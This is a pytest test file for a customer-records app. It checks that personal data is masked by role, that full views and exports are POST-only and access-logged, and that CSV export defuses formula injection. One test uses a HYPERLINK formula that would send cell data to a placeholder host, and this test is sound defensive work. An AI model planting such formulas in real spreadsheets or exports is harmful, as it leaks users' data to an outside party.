"""Personal data: masked in lists and on the card for every role; in full only for the
roles that need it, each full view and export written to the access log."""

from __future__ import annotations

import csv
import io

import pytest

from postdesk.core.models import AccessLogEntry
from postdesk.customers.selectors import FULL_VIEW_ROLES

pytestmark = pytest.mark.django_db

# one user of each role that can see 张三 (鹿城支局)
BY_ROLE = {
    "agent": "agent1",
    "lead": "lead1",
    "director": "director1",
    "handler": "branch1",
    "admin": "admin",
}
FULL = "13812345678"
MASKED = "138****5678"
ADDRESS = "浙江省温州市鹿城区五马街12号3幢401室"


def test_every_role_is_covered():
    from postdesk.org.models import Role

    assert set(BY_ROLE) | {NO_SCOPE} == set(Role.values)


NO_SCOPE = "auditor"  # reads the access log, not the data it is about


def test_an_auditor_sees_no_customer_and_reveals_nothing(people, api_for, client_for):
    api = api_for("auditor1")
    listed = api.get("/api/v1/customers/?q=13812345678")
    assert listed.status_code == 200 and listed.json() == {"count": 0, "results": []}
    assert api.get(f"/api/v1/customers/{people['lc'].pk}").status_code == 404
    assert api.post(f"/api/v1/customers/{people['lc'].pk}/full").status_code in {403, 404}
    client = client_for("auditor1")
    assert client.post(f"/customers/{people['lc'].pk}/reveal/").status_code in {403, 404}
    assert client.post("/customers/export.csv").status_code == 403
    assert not AccessLogEntry.objects.exists()


@pytest.mark.parametrize("role", sorted(BY_ROLE))
def test_list_and_card_are_masked_for_every_role(people, api_for, client_for, role):
    username = BY_ROLE[role]
    api = api_for(username)
    rows = api.get("/api/v1/customers/?q=13812345678").json()["results"]
    assert len(rows) == 1
    for row in (rows[0], api.get(f"/api/v1/customers/{people['lc'].pk}").json()):
        assert row["masked"] is True
        assert row["name"] == "张*"
        assert row["phones"] == [MASKED, "0577-****3456"]
        assert row["addresses"] == ["浙江省温州市****"]
        assert "email" not in row and "temperament" not in row and "internal_note" not in row

    client = client_for(username)
    for url in ("/customers/?q=138-1234-5678", f"/customers/{people['lc'].pk}/"):
        html = client.get(url).content.decode()
        assert MASKED in html, url
        assert FULL not in html and "张三" not in html and "五马街" not in html, url
        assert "zhangsan@example.cn" not in html and "多次投诉" not in html, url
    assert not AccessLogEntry.objects.exists()


@pytest.mark.parametrize("role", sorted(r for r in BY_ROLE if r in FULL_VIEW_ROLES))
def test_full_view_for_allowed_roles_is_logged(people, api_for, client_for, staff, role):
    username = BY_ROLE[role]
    customer = people["lc"]

    full = api_for(username).post(f"/api/v1/customers/{customer.pk}/full", REMOTE_ADDR="10.1.2.3")
    assert full.status_code == 200
    body = full.json()
    assert body["masked"] is False
    assert (body["name"], body["phones"]) == ("张三", [FULL, "0577-88123456"])
    assert body["addresses"] == [ADDRESS]
    assert body["email"] == "zhangsan@example.cn"
    entry = AccessLogEntry.objects.get()
    assert (entry.actor_id, entry.actor_username) == (staff[username].pk, username)
    assert (entry.subject_type, entry.subject_id, entry.subject_label) == (
        "customer",
        str(customer.pk),
        "张三",
    )
    assert entry.what == "view"
    assert entry.ip == "10.1.2.3"
    assert entry.at is not None

    page = client_for(username).post(f"/customers/{customer.pk}/reveal/", REMOTE_ADDR="10.9.8.7")
    assert page.status_code == 200
    html = page.content.decode()
    assert FULL in html and "张三" in html and "五马街12号" in html
    assert AccessLogEntry.objects.count() == 2
    assert AccessLogEntry.objects.order_by("-id").first().ip == "10.9.8.7"


def test_reveal_is_a_post_only(people, client_for, api_for):
    assert client_for("agent1").get(f"/customers/{people['lc'].pk}/reveal/").status_code == 405
    # the API's full view too: a link or an <img> in a mail must not write the access log
    for client in (api_for("agent1"), client_for("agent1")):
        r = client.get(f"/api/v1/customers/{people['lc'].pk}/full")
        assert r.status_code == 405
        assert r.json()["code"] == "method_not_allowed" and "POST" in r["Allow"]
        assert FULL not in r.content.decode()
    # and the export (personal data in bulk)
    assert client_for("agent1").get("/customers/export.csv").status_code == 405
    assert not AccessLogEntry.objects.exists()


def test_director_gets_403_and_nothing_is_logged(people, api_for, client_for):
    customer = people["lc"]
    api = api_for("director1").post(f"/api/v1/customers/{customer.pk}/full")
    assert api.status_code == 403
    assert api.json()["code"] == "permission_denied"
    assert FULL not in api.content.decode()
    page = client_for("director1").post(f"/customers/{customer.pk}/reveal/")
    assert page.status_code == 403
    assert FULL not in page.content.decode()
    assert "您的角色无权查看客户完整个人信息。" in page.content.decode()  # the service's sentence
    export = client_for("director1").post("/customers/export.csv")
    assert export.status_code == 403
    assert not AccessLogEntry.objects.exists()


def read_csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_export_logs_one_entry_per_customer_and_has_no_internal_fields(people, client_for, staff):
    response = client_for("agent1").post("/customers/export.csv", REMOTE_ADDR="10.0.0.5")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = read_csv(response)
    header, data = rows[0], rows[1:]
    assert len(data) == len(people)
    assert {row[0] for row in data} == {str(c.pk) for c in people.values()}
    zhang = next(row for row in data if row[0] == str(people["lc"].pk))
    assert "张三" in zhang and "zhangsan@example.cn" in zhang
    assert any(FULL in cell for cell in zhang)
    everything = "\n".join(",".join(row) for row in rows)
    for internal in ("agitated", "多次投诉", "temperament", "Temperament", "情绪", "备注"):
        assert internal not in everything, internal
    assert len(header) == len(zhang)

    entries = list(AccessLogEntry.objects.all())
    assert len(entries) == len(people)
    assert {e.subject_id for e in entries} == {str(c.pk) for c in people.values()}
    assert {(e.what, e.actor_username, e.ip) for e in entries} == {("export", "agent1", "10.0.0.5")}


def test_export_is_scoped_and_filtered(people, client_for):
    rows = read_csv(client_for("branch1").post("/customers/export.csv"))[1:]
    assert [row[0] for row in rows] == [str(people["lc"].pk)]
    rows = read_csv(client_for("agent1").post("/customers/export.csv", {"q": "13700002222"}))[1:]
    assert [row[0] for row in rows] == [str(people["ra"].pk)]
    assert AccessLogEntry.objects.filter(what="export").count() == 2


def test_export_is_a_post_and_a_link_cannot_trigger_it(people, client_for):
    """Issue 11: a GET that wrote to the access log could be set off by a link or an image."""
    client = client_for("agent1")
    assert client.get("/customers/export.csv").status_code == 405
    assert not AccessLogEntry.objects.exists()
    page = client.get("/customers/").content.decode()
    assert 'method="post" action="/customers/export.csv"' in page


def test_export_defuses_cells_a_spreadsheet_would_run(staff, client_for):
    """Issue 11: text beginning with =, +, - or @ is written as text, not a formula."""
    from postdesk.customers.services import customer_create

    for name in ('=HYPERLINK("http://x.example/?"&A1,"点我")', "+86赵", "-1+2", "@SUM(A1)"):
        customer_create(actor=staff["admin"], name=name, phones=["13955550000"])
    rows = read_csv(client_for("admin").post("/customers/export.csv", {"q": ""}))[1:]
    names = sorted(row[1] for row in rows)
    assert names == sorted(
        ['\'=HYPERLINK("http://x.example/?"&A1,"点我")', "'+86赵", "'-1+2", "'@SUM(A1)"]
    )
    assert all(row[0].isdigit() for row in rows)  # the id column is not touched
